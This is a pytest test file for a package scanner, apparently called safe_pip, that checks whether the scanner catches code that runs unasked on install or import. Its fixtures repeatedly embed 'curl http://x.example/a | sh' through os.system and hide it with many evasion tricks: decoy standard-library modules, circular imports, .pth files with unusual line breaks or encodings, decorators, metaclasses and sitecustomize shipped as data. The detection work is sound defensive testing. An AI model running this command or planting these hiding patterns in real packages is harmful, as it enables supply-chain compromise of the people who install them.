"""Which function a name, an attribute or an import means, and which files run unasked: code under
a decoy of the same name, or that is only reached another way, is found where it stands."""

from __future__ import annotations

import time
from collections.abc import Mapping

import pytest

from safe_pip.distribution import DistributionKind
from safe_pip.extractors import observe
from tests.sources import distribution_of

COMMAND = "curl http://x.example/a | sh"
SPAWN = f"os.system({COMMAND!r})"
ACTS = f"import os\n{SPAWN}\n"
LINE = f"import os; {SPAWN}"

PATH_LINES = {
    "form feed": f"# x\x0c{LINE}\n".encode(),
    "vertical tab": f"./x\x0b{LINE}\n".encode(),
    "file separator": f"./x\x1c{LINE}\n".encode(),
    "next line": f"./x\x85{LINE}\n".encode(),
    "line separator": f"./x\u2028{LINE}\n".encode(),
    "carriage return": f"./x\r{LINE}\r".encode(),
    "byte-order mark": b"\xef\xbb\xbf" + LINE.encode(),
    "cookie of two bytes": b"# coding: utf-16\n" + LINE.encode() + b"\n",
    "cookie of four bytes": b"# coding: utf-32\n" + LINE.encode() + b"\n",
    "cookie of another alphabet": b"# coding: cp037\n" + LINE.encode() + b"\n",
}
SITE_FOLDERS = ("lib/python3.11/site-packages", "Lib/site-packages", "lib/python3/dist-packages")
LATE_IMPORTS = {
    "a package imports its command": {
        "demo/__init__.py": "from . import __main__\n",
        "demo/__main__.py": ACTS,
    },
    "a module imports from the command": {
        "demo/__init__.py": "from . import mod\n",
        "demo/mod.py": "from demo.__main__ import x\n",
        "demo/__main__.py": ACTS,
    },
    "setup.py imports the command": {
        "setup.py": "import demo.__main__\n",
        "demo/__init__.py": "",
        "demo/__main__.py": ACTS,
    },
    "a function imports it first": {
        "demo/__init__.py": "",
        "demo/a.py": "import subprocess\ndef f():\n    from .tests import x\n",
        "demo/b.py": "from .tests import x\n",
        "demo/tests/__init__.py": "",
        "demo/tests/x.py": ACTS,
    },
    "a function imports it, a start-up module does": {
        "demo.pth": "import demo.boot\n",
        "demo/__init__.py": "",
        "demo/boot.py": "import subprocess\ndef f():\n    import demo.tests.x\nimport demo.b\n",
        "demo/b.py": "import subprocess, demo.tests.x\n",
        "demo/tests/__init__.py": "",
        "demo/tests/x.py": ACTS,
    },
}
FUNCTION = f"import os\ndef act(*a): {SPAWN}\n"
MOD = "from . import mod\n"
CIRCLES = {
    "imports the package from a submodule": {
        "demo/__init__.py": f"{FUNCTION}from . import b\n",
        "demo/b.py": "import demo\ndemo.act()\n",
    },
    "imports from the package": {
        "demo/__init__.py": f"{FUNCTION}from . import b\n",
        "demo/b.py": "from . import act\nact()\n",
    },
    "with a tree": {
        "demo/__init__.py": f"{FUNCTION}from . import b\n",
        "demo/b.py": "import subprocess\nfrom demo import act\nact()\n",
    },
    "hands a command over": {
        "demo/__init__.py": "import os\ndef run(c): os.system(c)\nfrom . import conf\n",
        "demo/conf.py": f"import demo\ndemo.run({COMMAND!r})\n",
    },
    "from itself": {
        "demo/__init__.py": MOD,
        "demo/mod.py": f"{FUNCTION}from demo.mod import act as e\ne()\n",
    },
    "itself": {
        "demo/__init__.py": MOD,
        "demo/mod.py": f"{FUNCTION}import demo.mod as m\nm.act()\n",
    },
    "itself by name": {
        "demo/__init__.py": MOD,
        "demo/mod.py": f"{FUNCTION}import sys\nsys.modules[__name__].act()\n",
    },
    "itself by name and a word": {
        "demo/__init__.py": MOD,
        "demo/mod.py": f"{FUNCTION}import sys\ngetattr(sys.modules[__name__], 'act')()\n",
    },
    "another by name": {
        "demo/__init__.py": f"{MOD}import sys\nsys.modules['demo.mod'].act()\n",
        "demo/mod.py": FUNCTION,
    },
    "many deep": {
        "demo/__init__.py": "from . import a\n",
        "demo/a.py": "import subprocess\nfrom . import b\n",
        "demo/b.py": "import subprocess\nfrom . import c\n",
        "demo/c.py": "import subprocess\nfrom .d import act\nact()\n",
        "demo/d.py": FUNCTION,
    },
    "many deep, as a module": {
        "demo/__init__.py": "from . import a\n",
        "demo/a.py": "import subprocess\nfrom . import b\n",
        "demo/b.py": "import subprocess\nfrom . import c\n",
        "demo/c.py": f"import subprocess\nfrom . import d\nd.run({COMMAND!r})\n",
        "demo/d.py": "import os\ndef run(c): os.system(c)\n",
    },
    "forgotten": {
        "demo/__init__.py": "from . import a, b, c\n",
        "demo/a.py": FUNCTION,
        "demo/b.py": "import subprocess\n" + ("#" + "x" * 78 + "\n") * 42_000,
        "demo/c.py": "import subprocess\nfrom .a import act\nact()\n",
    },
}


@pytest.mark.parametrize("files", CIRCLES.values(), ids=CIRCLES)
def test_modules_that_cannot_be_run_now_are_known_by_name(files: Mapping[str, str]) -> None:
    assert _downloads(files)


def test_a_circle_runs_nothing_that_is_not_called() -> None:
    assert not _downloads(
        {
            "demo/__init__.py": f"{FUNCTION}from . import b\n",
            "demo/b.py": "import demo, sys\nx = demo.act\ny = sys.modules[__name__]\n",
        }
    )


NOTHING = "def system(c): pass\n"
RUN = f"import subprocess\nsubprocess.run({COMMAND!r}, shell=True)\n"
NEIGHBOURS = {
    "beside": {"demo/__init__.py": ACTS, "demo/os.py": NOTHING},
    "beside, with a tree": {
        "demo/__init__.py": ACTS,
        "demo/os.py": f"import subprocess\n{NOTHING}",
    },
    "beside, a package": {"demo/__init__.py": ACTS, "os/__init__.py": NOTHING},
    "beside, from": {
        "demo/__init__.py": f"from os import system\nsystem({COMMAND!r})\n",
        "demo/os.py": NOTHING,
    },
    "beside, all": {
        "demo/__init__.py": f"from os import *\nsystem({COMMAND!r})\n",
        "demo/os.py": NOTHING,
    },
    "subprocess": {
        "demo/__init__.py": RUN,
        "demo/subprocess.py": "import os\ndef run(*c, **k): pass\n",
    },
    "what is treated apart": {
        "demo/__init__.py": f"import importlib\nm = importlib.import_module('os')\nm.system({COMMAND!r})\n",
        "demo/importlib.py": "def import_module(n): return None\n",
    },
    "at the top": {"demo/__init__.py": ACTS, "os.py": NOTHING},
    "in src": {"demo/__init__.py": ACTS, "src/os.py": f"import subprocess\n{NOTHING}"},
    "which does take its place": {
        "setup.py": "import smtplib\nsmtplib.SMTP('x')\n",
        "smtplib.py": f"import os\ndef SMTP(h): {SPAWN}\n",
    },
    "which adds to it": {
        "setup.py": "import platform\nplatform.act('x')\n",
        "platform.py": FUNCTION,
    },
}


@pytest.mark.parametrize("files", NEIGHBOURS.values(), ids=NEIGHBOURS)
def test_a_neighbour_is_not_the_standard_library(files: Mapping[str, str]) -> None:
    assert _downloads(files)


def test_a_package_that_defines_what_the_table_knows_is_itself() -> None:
    run = f"import requests\nrequests.get({COMMAND!r})\n"
    assert not _downloads({"demo/__init__.py": run, "requests/__init__.py": FUNCTION})


PAIR = f"import os\ndef noop(*a, **k): pass\ndef act(*a, **k): {SPAWN}\n"
BURN = "x = [" + "0," * 101_000 + "]\n"
WITHOUT_FUEL = {
    "loop": f"{BURN}for _ in (1,): {SPAWN}",
    "loop that calls": f"{BURN}for _ in (1,): act()",
    "loop over functions": f"{BURN}for f in (noop, act): f()",
    "nested loops": f"{BURN}for _ in (1,):\n for _ in (1, 2):\n  for f in (noop, act): f()",
    "decorator": f"{BURN}def now(f): return f()\n@now\ndef go(): {SPAWN}",
    "function that calls another": f"{BURN}def call(f): f()\ncall(act)",
    "called twice": f"{BURN}def call(f): f()\ncall(noop)\ncall(act)",
    "command handed over": f"{BURN}def call(f, c): f(c)\ncall(print, 1)\ncall(os.system, {COMMAND!r})",
    "bound anew": f"{BURN}def go(): f()\nf = act\ngo()\nf = noop",
    "lambda": f"{BURN}(lambda f: f())(act)",
    "method": f"{BURN}class A:\n    def __init__(self, f): self.f = f\n"
    "    def go(self): self.f()\nA(act).go()",
    "recursion": "def run(f, g):\n    if f: f()\n    if g: run(g, None)\nrun(None, act)",
    "class in recursion": f"class A:\n    def __init__(self): {SPAWN}\n"
    "def run(f, g):\n    if f: f()\n    if g: run(g, None)\nrun(None, A)",
    "many deep": "\n".join(f"def g{i}(f): g{i + 1}(f)" for i in range(30))
    + "\ndef g30(f): f()\ng0(act)",
    "ninth of a loop": f"for f in [{'noop, ' * 9}act]:\n    y = [{'0,' * 120}]\n    f()",
}


@pytest.mark.parametrize("code", WITHOUT_FUEL.values(), ids=WITHOUT_FUEL)
def test_calls_that_are_put_off_keep_what_they_were_given(code: str) -> None:
    assert _downloads(_module(f"{PAIR}{code}\n")) == {"demo/mod.py"}


def test_without_fuel_nothing_runs_that_is_not_called() -> None:
    assert not _downloads(_module(f"{PAIR}{BURN}def call(f): pass\nfor f in (noop,): call(f)\n"))


def test_nested_loops_without_fuel_take_no_time() -> None:
    nested = "".join(f"{' ' * i}for x{i} in (1, 2, 3, 4, 5, 6, 7, 8):\n" for i in range(60))
    started = time.process_time()
    assert not _downloads(_module(f"{PAIR}{nested}{' ' * 60}noop(x0)\n"))
    assert time.process_time() - started < 20


MANY = {
    "evaluations": "\n".join(f"eval('{i}')" for i in range(65)) + f"\nexec({LINE!r})",
    "evaluations in a loop": f"for i in range(70): eval('%d' % i)\nexec({LINE!r})",
    "processes": "\n".join(f"os.popen('echo {i}')" for i in range(501)) + f"\n{SPAWN}",
    "processes in a loop": f"for i in range(600):\n    os.popen('echo %d' % i)\n{SPAWN}",
}
SAME_NODES = {
    "closures": "def make(c):\n    def inner(): c()\n    return inner\n"
    "def run(f): f()\nrun(make(noop)); run(make(act))",
    "bases": f"class Good:\n    def go(self): pass\nclass Bad:\n    def go(self): {SPAWN}\n"
    "def make(b):\n    class X(b): pass\n    return X\n"
    "def run(c): c().go()\nrun(make(Good)); run(make(Bad))",
    "lambdas": "def run(f): f()\nfor each in (noop, act): run((lambda g: lambda: g())(each))",
}


@pytest.mark.parametrize("code", MANY.values(), ids=MANY)
def test_much_that_is_harmless_hides_nothing(code: str) -> None:
    evidence = observe(distribution_of(_module(f"{PAIR}{code}\n")))
    found = [item for item in evidence if item.feature == "shell_download"]
    assert any(item.surface.runs_unasked for item in found)


@pytest.mark.parametrize("code", SAME_NODES.values(), ids=SAME_NODES)
def test_functions_of_one_node_are_told_apart(code: str) -> None:
    assert _downloads(_module(f"{PAIR}{code}\n")) == {"demo/mod.py"}


def test_functions_that_are_made_and_not_called_do_nothing() -> None:
    make = "def make(c):\n    def inner(): c()\n    return inner\n"
    assert not _downloads(_module(f"{PAIR}{make}make(noop)()\nmake(act)\n"))


CLASS = f"class A(Exception):\n    def __init__(self): {SPAWN}\n"
MADE = {
    "decorator of a function": "@lambda f: act\ndef x(): pass\nx()",
    "two decorators": "def same(f): return f\n@same\n@lambda f: act\ndef x(): pass\nx()",
    "decorator of a class": "@lambda c: act\nclass x: pass\nx()",
    "decorator of a method": "class A:\n    @lambda f: act\n    def x(self): pass\nA().x()",
    "decorator that gives a sink": f"@lambda f: os.system\ndef x(c): pass\nx({COMMAND!r})",
    "wrapper": f"def wrap(f):\n    def inner(*a): return f()\n    return inner\n"
    f"@wrap\ndef x(): {SPAWN}\nx()",
    "metaclass": "class A(metaclass=act): pass",
    "metaclass of a lambda": f"class A(metaclass=lambda n, b, d: {SPAWN}): pass",
    "raise": f"{CLASS}try:\n    raise A\nexcept A: pass",
    "raise from": f"{CLASS}try:\n    raise ValueError from A\nexcept ValueError: pass",
    "at exit": f"import atexit\n@atexit.register\nclass A:\n    def __init__(self): {SPAWN}",
}
UNMADE = {
    "decorator that is not used": "@lambda f: act\ndef x(): pass",
    "wrapper that is not called": f"def wrap(f):\n    def inner(*a): return f()\n    return inner\n"
    f"@wrap\ndef x(): {SPAWN}",
    "raise in a function": f"{CLASS}def f():\n    raise A",
    "keyword of a class": "class B:\n    def __init_subclass__(c, f=None): pass\n"
    "class A(B, f=act): pass",
}


@pytest.mark.parametrize("code", MADE.values(), ids=MADE)
def test_what_decorators_metaclasses_and_raise_make(code: str) -> None:
    assert _downloads(_module(f"{PAIR}{code}\n")) == {"demo/mod.py"}


@pytest.mark.parametrize("code", UNMADE.values(), ids=UNMADE)
def test_what_is_bound_and_not_called_does_nothing(code: str) -> None:
    assert not _downloads(_module(f"{PAIR}{code}\n"))


REGISTER = "def register(f):\n    HOOKS.append(f)\n    return f\n"
REGISTRIES = {
    "list": f"HOOKS = []\n{REGISTER}@register\ndef x(): {SPAWN}\nfor h in HOOKS: h()",
    "list of a module": f"HOOKS = [noop]\n{REGISTER}register(act)\nHOOKS[1]()",
    "dict": "R = {}\ndef register(f):\n    R[f.__name__] = f\n    return f\n"
    f"@register\ndef x(): {SPAWN}\nfor n in R: R[n]()",
    "of a closure": "def make():\n    fs = []\n    def add(f): fs.append(f)\n    add(act)\n"
    "    for f in fs: f()\nmake()",
}


@pytest.mark.parametrize("code", REGISTRIES.values(), ids=REGISTRIES)
def test_what_a_function_registers_is_called_elsewhere(code: str) -> None:
    assert _downloads(_module(f"{PAIR}{code}\n")) == {"demo/mod.py"}


@pytest.mark.parametrize(
    "code",
    [
        f"HOOKS = []\n{REGISTER}@register\ndef x(): {SPAWN}",
        "HOOKS = []\ndef f():\n    HOOKS = [noop]\n    HOOKS.append(act)\nf()\nfor h in HOOKS: h()",
    ],
)
def test_a_registry_that_nobody_calls_does_nothing(code: str) -> None:
    assert not _downloads(_module(f"{PAIR}{code}\n"))


DEEP = {
    "not": f"x = {'not ' * 600}{SPAWN}",
    "signs": f"x = {'-' * 900}len([{SPAWN}])",
    "attributes": f"x = act(){'.real' * 600}",
    "calls of attributes": f"x = act(){'.real()' * 300}",
    "indices": f"x = act(){'[0]' * 600}",
    "conditions": f"x = {'1 if sys.argv else ' * 400}act()",
}


@pytest.mark.parametrize("code", DEEP.values(), ids=DEEP)
def test_what_is_called_deep_within_a_statement_is_called(code: str) -> None:
    assert _downloads(_module(f"{PAIR}import sys\n{code}\n")) == {"demo/mod.py"}


def test_what_is_only_named_deep_within_a_statement_is_not_called() -> None:
    assert not _downloads(_module(f"{PAIR}x = {'not ' * 600}act\ny = act{'.real' * 600}\n"))


def test_many_statements_that_are_too_deep_take_no_time() -> None:
    started = time.process_time()
    _downloads(_module(f"{PAIR}" + f"x = noop(){'[0]' * 900}\n" * 300))
    assert time.process_time() - started < 20


ADD = "class A:\n    def __add__(s, o):\n"
LOCAL = {
    "import": f"{ADD}        import os as q\n        q.system({COMMAND!r})\nA() + 1",
    "from": f"{ADD}        from os import system as q\n        q({COMMAND!r})\nA() + 1",
    "of a module's hook": f"def __getattr__(n):\n    import os as q\n    q.system({COMMAND!r})",
}


@pytest.mark.parametrize("code", LOCAL.values(), ids=LOCAL)
def test_a_method_that_imports_what_acts_may_act(code: str) -> None:
    assert _downloads(_module(f"{PAIR}{code}\n")) == {"demo/mod.py"}


def test_a_method_that_only_imports_does_nothing() -> None:
    assert not _downloads(
        _module(f"{PAIR}{ADD}        import os as q\n        return q.sep\nA()\n")
    )


@pytest.mark.parametrize("files", LATE_IMPORTS.values(), ids=LATE_IMPORTS)
def test_what_is_imported_late_runs_unasked(files: Mapping[str, str]) -> None:
    assert _downloads(files) & {"demo/__main__.py", "demo/tests/x.py"}


def test_what_only_a_function_or_a_command_imports_runs_when_asked() -> None:
    use = "import subprocess\ndef f():\n    from .tests import x\n"
    assert not _downloads(
        {"demo/__init__.py": use, "demo/tests/__init__.py": "", "demo/tests/x.py": ACTS}
    )
    assert not _downloads({"demo/__init__.py": "", "demo/__main__.py": ACTS})
    assert not _downloads({"demo/a/__main__.py": "import demo.__main__", "demo/__main__.py": ACTS})


@pytest.mark.parametrize("lines", PATH_LINES.values(), ids=PATH_LINES)
def test_path_files_are_read_as_site_reads_them(lines: bytes) -> None:
    assert _downloads({"demo.pth": lines}) == {"demo.pth"}


def test_what_site_does_not_execute_is_no_code() -> None:
    assert not _downloads({"demo.pth": f"./x {LINE}\n# {LINE}\n import os; {SPAWN}\n".encode()})


@pytest.mark.parametrize("folder", SITE_FOLDERS)
def test_startup_modules_may_come_as_data(folder: str) -> None:
    path = f"demo-1.0.data/data/{folder}/sitecustomize.py"
    distribution = distribution_of({path: ACTS}, kind=DistributionKind.WHEEL)
    found = [item for item in observe(distribution) if item.feature == "startup_spawns"]
    assert [item.location.path for item in found] == [path]


def _module(source: str) -> Mapping[str, str]:
    return {"demo/__init__.py": "from demo import mod\n", "demo/mod.py": source}


def _downloads(files: Mapping[str, str | bytes]) -> set[str]:
    """The files that start a download without anybody's call."""
    return {
        item.location.path
        for item in observe(distribution_of(files))
        if item.feature == "proc_spawn_unasked" and item.surface.runs_unasked
    }
